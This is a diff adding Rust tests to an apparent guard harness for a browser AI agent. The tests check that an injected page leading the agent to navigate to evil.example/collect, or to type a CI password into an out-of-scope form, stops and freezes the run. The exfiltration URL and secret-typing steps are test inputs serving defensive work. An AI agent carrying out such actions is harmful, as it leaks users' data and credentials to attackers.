@@ -751,6 +751,75 @@ async fn a_secret_is_never_typed_into_a_form_that_posts_to_another_host() {
     assert!(run.action_result_of(typing).is_none(), "it was typed");
 }
 
+/// The attack manifest with the default for severe violations: stop and freeze.
+fn freezing(task: String) -> String {
+    task.replace("freeze_on_violation = false", "freeze_on_violation = true")
+}
+
+/// What a run stopped for a severe violation must show: the violation, a frozen final state,
+/// and no decision after the violating one.
+fn assert_stopped_and_frozen(run: &Run, kind: &str) {
+    assert_eq!(run.code(), Some(4), "{}", run.text());
+    let v = run.of_kind("violation");
+    assert_eq!(v.len(), 1, "{}", run.text());
+    assert_eq!(v[0]["payload"]["kind"], kind);
+    let frozen = run.of_kind("frozen");
+    assert_eq!(frozen.len(), 1, "{}", run.text());
+    assert!(
+        run.observations()
+            .iter()
+            .any(|o| o["payload"]["phase"] == "frozen"),
+        "no final observation"
+    );
+    let last = run.decisions().into_iter().next_back().unwrap();
+    assert_eq!(last["payload"]["decision"]["verdict"], "deny");
+    assert!(last["seq"].as_u64() < v[0]["seq"].as_u64());
+    assert!(run.text().contains("severe violation"), "{}", run.text());
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn an_off_task_navigation_stops_and_freezes_the_run() {
+    let a = Attack::new().await;
+    let task = a.task_edited("http://ci.example/lab/inject/visible", freezing);
+    let run = a
+        .run(
+            &task,
+            &[
+                navigate("http://evil.example/collect?d=visible&tb=AssertionError"),
+                // Never proposed: the run is over after the attempt above.
+                navigate("http://incidents.example/incidents/INC-2048"),
+            ],
+            &[],
+        )
+        .await;
+    a.assert_safe().await;
+    assert_stopped_and_frozen(&run, "egress outside the task's domains");
+    assert_eq!(run.decisions().len(), 1);
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn a_secret_aimed_out_of_scope_stops_and_freezes_the_run() {
+    let a = Attack::new().await;
+    let task = a.task_edited("http://ci.example/lab/session-expired", |t| {
+        freezing(with_ci_password(t))
+    });
+    let run = a
+        .run(
+            &task,
+            &[
+                click(632, 373),
+                type_text("{{secret:ci_password}}"),
+                click(632, 433),
+            ],
+            &[],
+        )
+        .await;
+    a.assert_safe().await;
+    assert_stopped_and_frozen(&run, "secret out of scope");
+    // The click on the field ran; the typing was the violation; nothing came after it.
+    assert_eq!(run.decisions().len(), 2);
+}
+
 // ---------------------------------------------------------------------------------------------
 // Exfiltration (catalogue 12–18)
 
